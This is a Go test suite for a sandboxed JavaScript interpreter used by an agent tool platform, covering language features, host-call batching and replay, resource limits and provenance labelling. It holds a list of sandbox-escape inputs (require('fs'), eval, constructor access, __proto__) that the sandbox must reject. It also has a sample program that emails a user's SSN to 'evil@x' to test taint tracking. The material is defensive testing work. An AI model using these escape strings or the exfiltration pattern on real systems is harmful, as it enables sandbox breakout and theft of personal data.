package sandbox

import (
	"context"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"atp/internal/provenance"
)

// stubHost services calls from a recorded effect map keyed by
// callSiteKey|argDigest, suspending on misses — the same contract the
// engine implements with its effect log.
type stubHost struct {
	effects map[string]any
	labels  map[string]provenance.Label // operation → label for the result
	errs    map[string]*HostError       // operation → catchable error
	calls   []*HostCall
}

func newStubHost() *stubHost {
	return &stubHost{
		effects: map[string]any{},
		labels:  map[string]provenance.Label{},
		errs:    map[string]*HostError{},
	}
}

func effectKey(call *HostCall) string { return call.CallSiteKey + "|" + call.ArgDigest }

func (h *stubHost) Invoke(_ context.Context, call *HostCall) (*HostResult, error) {
	h.calls = append(h.calls, call)
	if hostErr, ok := h.errs[call.Operation]; ok {
		return &HostResult{Err: hostErr}, nil
	}
	if v, ok := h.effects[effectKey(call)]; ok {
		return &HostResult{Value: v, Label: h.labels[call.Operation]}, nil
	}
	return &HostResult{Suspend: true}, nil
}

func run(t *testing.T, source string, host Host, mode provenance.Mode) (*Result, error) {
	t.Helper()
	prog, err := Compile(source)
	require.NoError(t, err)
	return prog.Run(context.Background(), RunOptions{
		Host:      host,
		Tools:     []string{"crm/getUser", "email/send", "crm/users/get"},
		Mode:      mode,
		StartTime: time.Unix(1700000000, 0),
	})
}

func mustRun(t *testing.T, source string) any {
	t.Helper()
	result, err := run(t, source, newStubHost(), provenance.ModeNone)
	require.NoError(t, err)
	return result.Value
}

func TestArithmeticAndReturn(t *testing.T) {
	require.Equal(t, float64(5), mustRun(t, "return 2 + 3"))
	require.Equal(t, "ab", mustRun(t, `return 'a' + 'b'`))
	require.Equal(t, float64(8), mustRun(t, "return 2 ** 3"))
	require.Equal(t, float64(1), mustRun(t, "return 7 % 3"))
	require.Equal(t, true, mustRun(t, "return 1 < 2 && 'a' === 'a'"))
}

func TestEmptyProgramCompletesUndefined(t *testing.T) {
	require.Nil(t, mustRun(t, ""))
	require.Nil(t, mustRun(t, "const x = 1;"))
}

func TestVariablesAndScoping(t *testing.T) {
	require.Equal(t, float64(3), mustRun(t, `
		let x = 1;
		{ let x = 10; }
		x = x + 2;
		return x;
	`))

	_, err := run(t, "const c = 1; c = 2;", newStubHost(), provenance.ModeNone)
	var thrown *ThrownError
	require.ErrorAs(t, err, &thrown)
	require.Contains(t, thrown.Message, "constant")
}

func TestLoopsAndControlFlow(t *testing.T) {
	require.Equal(t, float64(10), mustRun(t, `
		let sum = 0;
		for (let i = 1; i <= 4; i++) { sum += i; }
		return sum;
	`))
	require.Equal(t, float64(6), mustRun(t, `
		let sum = 0;
		for (const n of [1, 2, 3]) { sum += n; }
		return sum;
	`))
	require.Equal(t, float64(3), mustRun(t, `
		let i = 0;
		while (true) { i++; if (i >= 3) break; }
		return i;
	`))
}

func TestFunctionsClosuresAndHoisting(t *testing.T) {
	require.Equal(t, float64(7), mustRun(t, `
		return add(3, 4);
		function add(a, b) { return a + b; }
	`))
	require.Equal(t, float64(15), mustRun(t, `
		const make = (n) => (x) => x * n;
		const triple = make(3);
		return triple(5);
	`))
	require.Equal(t, float64(9), mustRun(t, `
		function outer() {
			let count = 0;
			return () => { count += 3; return count; };
		}
		const bump = outer();
		bump(); bump();
		return bump();
	`))
}

func TestObjectsArraysDestructuring(t *testing.T) {
	require.Equal(t, "alice", mustRun(t, `
		const user = { name: 'alice', tags: ['a', 'b'] };
		const { name } = user;
		return name;
	`))
	require.Equal(t, float64(2), mustRun(t, `
		const [first, second = 2] = [1];
		return second;
	`))
	require.Equal(t, float64(6), mustRun(t, `
		const arr = [1, 2, 3];
		return arr.reduce((acc, n) => acc + n, 0);
	`))
	require.Equal(t, []any{float64(2), float64(4)}, mustRun(t, `
		return [1, 2, 3, 4].filter((n) => n % 2 === 0);
	`))
}

func TestTemplateLiterals(t *testing.T) {
	require.Equal(t, "hi alice, you have 3 items", mustRun(t, `
		const name = 'alice';
		return `+"`hi ${name}, you have ${1 + 2} items`"+`;
	`))
}

func TestJSONRoundTrip(t *testing.T) {
	require.Equal(t, `{"b":1,"a":[true,null]}`, mustRun(t, `
		return JSON.stringify({ b: 1, a: [true, null] });
	`))
	require.Equal(t, float64(42), mustRun(t, `
		return JSON.parse('{"x": 42}').x;
	`))
}

func TestTryCatchFinally(t *testing.T) {
	require.Equal(t, "caught: boom", mustRun(t, `
		try {
			throw new Error('boom');
		} catch (e) {
			return 'caught: ' + e.message;
		}
	`))
	require.Equal(t, float64(2), mustRun(t, `
		let n = 0;
		try { n = 1; } finally { n = 2; }
		return n;
	`))
}

func TestUncaughtThrowFailsExecution(t *testing.T) {
	_, err := run(t, "throw new Error('unhandled')", newStubHost(), provenance.ModeNone)
	var thrown *ThrownError
	require.ErrorAs(t, err, &thrown)
	require.Equal(t, "unhandled", thrown.Message)
}

func TestDeterministicRandomAndDate(t *testing.T) {
	source := "return [Math.random(), Date.now()]"
	first := mustRun(t, source)
	second := mustRun(t, source)
	require.Equal(t, first, second)
}

func TestSecurityRejections(t *testing.T) {
	for _, source := range []string{
		"import fs from 'fs'",
		"const x = require('fs')",
		"process.exit(1)",
		"global.leak = 1",
		"const f = (() => {}).constructor",
		"eval('1 + 1')",
		"let process = 1",
		`const o = {}; o["__proto__"]`,
	} {
		_, err := Compile(source)
		require.Error(t, err, source)
	}
}

func TestRuntimeConstructorIndexBlocked(t *testing.T) {
	_, err := run(t, `
		const key = 'construc' + 'tor';
		const f = () => 1;
		return f[key];
	`, newStubHost(), provenance.ModeNone)
	var thrown *ThrownError
	require.ErrorAs(t, err, &thrown)
	require.Contains(t, thrown.Message, "blocked")
}

func TestSingleSuspendableCallPausesOnce(t *testing.T) {
	host := newStubHost()
	source := "return await atp.approval.request({ message: 'ok' })"

	_, err := run(t, source, host, provenance.ModeNone)
	var susp *Suspension
	require.ErrorAs(t, err, &susp)
	require.Len(t, susp.Calls, 1)
	require.Equal(t, CallTypeApproval, susp.Calls[0].Type)
	require.Equal(t, "approval.request", susp.Calls[0].Operation)

	// Record the effect and replay from the start.
	host.effects[effectKey(susp.Calls[0])] = map[string]any{"approved": true}
	result, err := run(t, source, host, provenance.ModeNone)
	require.NoError(t, err)
	require.Equal(t, map[string]any{"approved": true}, result.Value)
}

func TestProgramWithNoSuspendableCallsNeverPauses(t *testing.T) {
	host := newStubHost()
	_, err := run(t, "return [1,2,3].map((n) => n * 2)", host, provenance.ModeNone)
	require.NoError(t, err)
	require.Empty(t, host.calls)
}

func TestPromiseAllBatchesIndependentCalls(t *testing.T) {
	host := newStubHost()
	source := `
		const r = await Promise.all([
			atp.llm.call({ p: '1' }),
			atp.llm.call({ p: '2' }),
			atp.llm.call({ p: '3' }),
		]);
		return r;
	`
	_, err := run(t, source, host, provenance.ModeNone)
	var susp *Suspension
	require.ErrorAs(t, err, &susp)
	require.Len(t, susp.Calls, 3, "one suspension carrying the whole batch")

	// Results recorded out of order; replay restores positional order.
	host.effects[effectKey(susp.Calls[2])] = "C"
	host.effects[effectKey(susp.Calls[0])] = "A"
	host.effects[effectKey(susp.Calls[1])] = "B"
	result, err := run(t, source, host, provenance.ModeNone)
	require.NoError(t, err)
	require.Equal(t, []any{"A", "B", "C"}, result.Value)
}

func TestMapWithAsyncCallbackBatches(t *testing.T) {
	host := newStubHost()
	source := `
		const inputs = ['x', 'y', 'z'];
		const results = await Promise.all(inputs.map(async (p) => await atp.llm.call({ p })));
		return results.join('');
	`
	_, err := run(t, source, host, provenance.ModeNone)
	var susp *Suspension
	require.ErrorAs(t, err, &susp)
	require.Len(t, susp.Calls, 3)

	for i, call := range susp.Calls {
		host.effects[effectKey(call)] = string(rune('a' + i))
	}
	result, err := run(t, source, host, provenance.ModeNone)
	require.NoError(t, err)
	require.Equal(t, "abc", result.Value)
}

func TestForOfLoopBatchesIndependentAwaits(t *testing.T) {
	host := newStubHost()
	source := `
		const out = [];
		for (const id of [1, 2, 3]) {
			out.push(await api.crm.getUser({ id: id }));
		}
		return out;
	`
	_, err := run(t, source, host, provenance.ModeNone)
	var susp *Suspension
	require.ErrorAs(t, err, &susp)
	require.Len(t, susp.Calls, 3, "one pause carrying every iteration's call")
	for i, call := range susp.Calls {
		require.Equal(t, CallTypeTool, call.Type)
		require.Equal(t, float64(i+1), call.Args["id"])
	}

	host.effects[effectKey(susp.Calls[0])] = "ada"
	host.effects[effectKey(susp.Calls[1])] = "bob"
	host.effects[effectKey(susp.Calls[2])] = "cy"
	result, err := run(t, source, host, provenance.ModeNone)
	require.NoError(t, err)
	require.Equal(t, []any{"ada", "bob", "cy"}, result.Value)
}

func TestMapWithSyncCallbackAwaitsBatches(t *testing.T) {
	host := newStubHost()
	source := `
		const names = [1, 2].map((id) => await api.crm.getUser({ id }));
		return names.join('+');
	`
	_, err := run(t, source, host, provenance.ModeNone)
	var susp *Suspension
	require.ErrorAs(t, err, &susp)
	require.Len(t, susp.Calls, 2)

	host.effects[effectKey(susp.Calls[0])] = "one"
	host.effects[effectKey(susp.Calls[1])] = "two"
	result, err := run(t, source, host, provenance.ModeNone)
	require.NoError(t, err)
	require.Equal(t, "one+two", result.Value)
}

func TestFilterPredicateAwaitsBatchBeforeBranching(t *testing.T) {
	host := newStubHost()
	source := `
		return [1, 2, 3, 4].filter((n) => await atp.llm.call({ p: n }));
	`
	_, err := run(t, source, host, provenance.ModeNone)
	var susp *Suspension
	require.ErrorAs(t, err, &susp)
	require.Len(t, susp.Calls, 4, "every predicate call runs before any branch")

	host.effects[effectKey(susp.Calls[0])] = true
	host.effects[effectKey(susp.Calls[1])] = false
	host.effects[effectKey(susp.Calls[2])] = true
	host.effects[effectKey(susp.Calls[3])] = false
	result, err := run(t, source, host, provenance.ModeNone)
	require.NoError(t, err)
	require.Equal(t, []any{float64(1), float64(3)}, result.Value)
}

func TestForOfBranchOnAwaitResultFallsBackSequential(t *testing.T) {
	host := newStubHost()
	source := `
		let sum = 0;
		for (const id of [1, 2]) {
			const n = await atp.llm.call({ p: id });
			if (n > 0) { sum += n; }
		}
		return sum;
	`
	// The body branches on each call's own result, so iterations converge
	// one pause at a time.
	_, err := run(t, source, host, provenance.ModeNone)
	var susp *Suspension
	require.ErrorAs(t, err, &susp)
	require.Len(t, susp.Calls, 1)

	host.effects[effectKey(susp.Calls[0])] = float64(5)
	_, err = run(t, source, host, provenance.ModeNone)
	require.ErrorAs(t, err, &susp)
	require.Len(t, susp.Calls, 1)
	require.Equal(t, float64(2), susp.Calls[0].Args["p"])

	host.effects[effectKey(susp.Calls[0])] = float64(7)
	result, err := run(t, source, host, provenance.ModeNone)
	require.NoError(t, err)
	require.Equal(t, float64(12), result.Value)
}

func TestSequentialDependentCallsPauseOneAtATime(t *testing.T) {
	host := newStubHost()
	source := `
		const a = await atp.llm.call({ p: 'first' });
		const b = await atp.llm.call({ p: a });
		return b;
	`
	_, err := run(t, source, host, provenance.ModeNone)
	var susp *Suspension
	require.ErrorAs(t, err, &susp)
	require.Len(t, susp.Calls, 1)

	host.effects[effectKey(susp.Calls[0])] = "one"
	_, err = run(t, source, host, provenance.ModeNone)
	require.ErrorAs(t, err, &susp)
	require.Len(t, susp.Calls, 1)
	require.Equal(t, map[string]any{"p": "one"}, susp.Calls[0].Args)

	host.effects[effectKey(susp.Calls[0])] = "two"
	result, err := run(t, source, host, provenance.ModeNone)
	require.NoError(t, err)
	require.Equal(t, "two", result.Value)
}

func TestHostErrorIsCatchable(t *testing.T) {
	host := newStubHost()
	host.errs["email/send"] = &HostError{Message: "blocked by policy", Policy: "exfiltration-prevention"}
	result, err := run(t, `
		try {
			return await api.email.send({ to: 'x' });
		} catch (e) {
			return e.policy + ': ' + e.message;
		}
	`, host, provenance.ModeNone)
	require.NoError(t, err)
	require.Equal(t, "exfiltration-prevention: blocked by policy", result.Value)
}

func TestUncaughtHostErrorFailsExecution(t *testing.T) {
	host := newStubHost()
	host.errs["email/send"] = &HostError{Message: "blocked by policy"}
	_, err := run(t, "return await api.email.send({ to: 'x' })", host, provenance.ModeNone)
	var thrown *ThrownError
	require.ErrorAs(t, err, &thrown)
	require.Contains(t, thrown.Message, "blocked")
}

func TestProxyModeLabelsFlowIntoHostCallArgs(t *testing.T) {
	host := newStubHost()
	source := `
		const u = await api.crm.getUser({ email: 'a@b' });
		return await api.email.send({ to: 'evil@x', body: u.ssn });
	`
	_, err := run(t, source, host, provenance.ModeProxy)
	var susp *Suspension
	require.ErrorAs(t, err, &susp)

	host.effects[effectKey(susp.Calls[0])] = map[string]any{"name": "al", "ssn": "123-45-6789"}
	host.labels["crm/getUser"] = provenance.Label{SourceKind: provenance.SourceTool, ToolName: "crm/getUser"}

	_, err = run(t, source, host, provenance.ModeProxy)
	require.ErrorAs(t, err, &susp)
	sendCall := susp.Calls[0]
	require.Equal(t, "email/send", sendCall.Operation)
	require.Equal(t, "123-45-6789", sendCall.Args["body"])
	require.NotEmpty(t, sendCall.Labels, "extracted primitive keeps the tool label")
	for _, label := range sendCall.Labels {
		require.Equal(t, provenance.SourceTool, label.SourceKind)
		require.Equal(t, "crm/getUser", label.ToolName)
	}
}

func TestProxyModeConcatLosesLabelASTModeKeepsIt(t *testing.T) {
	source := `
		const u = await api.crm.getUser({ email: 'a@b' });
		const derived = 'ssn is ' + u.ssn;
		return await api.email.send({ body: derived });
	`
	for _, tc := range []struct {
		mode      provenance.Mode
		wantLabel bool
	}{
		{provenance.ModeProxy, false},
		{provenance.ModeAST, true},
	} {
		host := newStubHost()
		_, err := run(t, source, host, tc.mode)
		var susp *Suspension
		require.ErrorAs(t, err, &susp)
		host.effects[effectKey(susp.Calls[0])] = map[string]any{"ssn": "123"}
		host.labels["crm/getUser"] = provenance.Label{SourceKind: provenance.SourceTool, ToolName: "crm/getUser"}

		_, err = run(t, source, host, tc.mode)
		require.ErrorAs(t, err, &susp)
		if tc.wantLabel {
			require.NotEmpty(t, susp.Calls[0].Labels)
		} else {
			require.Empty(t, susp.Calls[0].Labels)
		}
	}
}

func TestResultLabelsSurfaceTaintedReturn(t *testing.T) {
	host := newStubHost()
	source := "return await api.crm.getUser({ email: 'a@b' })"
	_, err := run(t, source, host, provenance.ModeProxy)
	var susp *Suspension
	require.ErrorAs(t, err, &susp)
	host.effects[effectKey(susp.Calls[0])] = map[string]any{"ssn": "123"}
	host.labels["crm/getUser"] = provenance.Label{SourceKind: provenance.SourceTool, ToolName: "crm/getUser"}

	result, err := run(t, source, host, provenance.ModeProxy)
	require.NoError(t, err)
	require.NotEmpty(t, result.Labels)
}

func TestStepBudgetExhaustion(t *testing.T) {
	prog, err := Compile("while (true) {}")
	require.NoError(t, err)
	_, err = prog.Run(context.Background(), RunOptions{Limits: Limits{MaxSteps: 1000}})
	require.Error(t, err)
	require.NotErrorAs(t, err, new(*ThrownError), "budget errors are not catchable program errors")
}

func TestMemoryBudgetExhaustion(t *testing.T) {
	prog, err := Compile(`
		let s = 'x';
		while (true) { s = s + s; }
	`)
	require.NoError(t, err)
	_, err = prog.Run(context.Background(), RunOptions{Limits: Limits{MaxMemoryBytes: 1 << 20}})
	require.Error(t, err)
}

func TestConsoleCapture(t *testing.T) {
	host := newStubHost()
	result, err := run(t, `
		console.log('hello', 42, { a: 1 });
		return null;
	`, host, provenance.ModeNone)
	require.NoError(t, err)
	require.Equal(t, []string{`hello 42 {"a":1}`}, result.Logs)
}

func TestCacheCallsPackPositionalArgs(t *testing.T) {
	host := newStubHost()
	_, err := run(t, "return await atp.cache.set('greeting', { text: 'hi' })", host, provenance.ModeNone)
	var susp *Suspension
	require.ErrorAs(t, err, &susp)
	require.Equal(t, "cache.set", susp.Calls[0].Operation)
	require.Equal(t, "greeting", susp.Calls[0].Args["key"])
	require.Equal(t, map[string]any{"text": "hi"}, susp.Calls[0].Args["value"])
}
